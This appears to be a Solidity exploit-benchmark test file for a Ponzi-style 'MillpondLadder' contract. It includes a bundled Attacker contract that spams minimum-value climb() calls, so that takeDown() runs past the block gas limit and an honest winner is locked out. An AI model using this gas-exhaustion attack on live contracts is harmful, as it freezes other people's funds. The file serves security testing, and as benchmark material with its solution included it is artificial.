pragma solidity 0.4.26;

import "./MillpondLadder.sol";

// assay-canary-27c8efcb-77dc-4f13-a01c-4dff14e39703

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert() external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant MANY = address(0x3A27);
    address constant LAST = address(0x1A57);
    uint constant EARLIER = 100;
    // what a block could hold in the spring of 2016
    uint constant BLOCK_GAS = 4712388;

    MillpondLadder internal pond;
    Attacker internal crowd;

    function setUp() public {
        vm.warp(1461000000);
        vm.deal(address(this), 100 ether);
        pond = (new MillpondLadder).value(100 ether)();
        vm.deal(MANY, 5000 ether);
        for (uint i = 0; i < EARLIER; i++) {
            vm.prank(MANY);
            pond.climb.value(50 ether)();
        }
        vm.deal(LAST, 200 ether);
        crowd = new Attacker(pond);
        vm.deal(address(crowd), 5 ether);
    }

    function test_Regular() public {
        require(pond.chest() == 100 ether + EARLIER * 10 ether && pond.ladderNumber() == 0);
        uint left = pond.waiting();
        require(left > 0 && left < EARLIER);
        require(!address(pond).call(abi.encodeWithSignature("takeDown()")));

        vm.prank(LAST);
        pond.climb.value(160 ether)();
        require(pond.waiting() == left - 1 && pond.top() == LAST);
        require(!address(pond).call.value(1 finney)(abi.encodeWithSignature("climb()")));

        uint chest = pond.chest();
        vm.warp(1461000000 + 12 hours);
        require(!address(pond).call.value(1 ether)(abi.encodeWithSignature("climb()")));
        pond.takeDown.gas(BLOCK_GAS)();
        require(pond.purse(LAST) == chest && pond.top() == 0 && pond.waiting() == 0);
        require(pond.chest() == 0 && pond.ladderNumber() == 1);
        vm.prank(LAST);
        pond.emptyPurse();
        require(LAST.balance == 40 ether + chest);

        // the next ladder begins with what is in the pond
        uint rest = pond.pond();
        vm.prank(LAST);
        pond.climb.value(10 ether)();
        require(pond.waiting() == 0 || pond.purse(LAST) == 0);
        require(pond.pond() == rest + 8 ether || pond.purse(LAST) == 11 ether);
        require(pond.chest() == 2 ether);

        address miller = pond.miller();
        vm.deal(miller, miller.balance + 1 ether);
        vm.prank(miller);
        pond.addToChest.value(1 ether)();
        require(pond.chest() == 3 ether);
        pond.repay(1);
    }

    // What is refused, each from the state after setUp(). The pond gives no reasons.

    function test_RefusesStrangersAtTheChest() public {
        vm.prank(LAST);
        vm.expectRevert();
        pond.addToChest.value(1 ether)();
    }

    function test_RefusesToEmptyEmptyPurses() public {
        vm.prank(LAST);
        vm.expectRevert();
        pond.emptyPurse();
    }

    function test_RefusesSmallLoans() public {
        vm.prank(LAST);
        vm.expectRevert();
        pond.climb.value(10 finney - 1)();
        vm.prank(LAST);
        pond.climb.value(10 finney)();
    }

    function test_RefusesToClimbWhenItIsOver() public {
        vm.warp(1461000000 + 12 hours);
        vm.prank(LAST);
        vm.expectRevert();
        pond.climb.value(1 ether)();
    }

    // somebody climbs, twelve hours pass, and the climber gets the chest in a block like any other
    function honestWinner() public {
        vm.prank(LAST);
        pond.climb.value(1 ether)();
        vm.warp(pond.lastClimb() + 12 hours);
        vm.prank(LAST);
        pond.takeDown.gas(BLOCK_GAS)();
        vm.prank(LAST);
        pond.emptyPurse();
    }

    function exploit() public {
        crowd.run();
    }

    function test_Exploit() public {
        exploit();
        require(!address(this).call(abi.encodeWithSignature("honestWinner()")));
    }

    function target() public view returns (address) {
        return address(pond);
    }

    function attacker() public view returns (address) {
        return address(crowd);
    }
}

/// Climbs again and again with the least loan.
contract Attacker {
    MillpondLadder internal pond;

    constructor(MillpondLadder pond_) public {
        pond = pond_;
    }

    function () external payable {}

    function run() external {
        while (gasleft() > 400000 && address(this).balance >= 10 finney) pond.climb.value(10 finney)();
    }
}
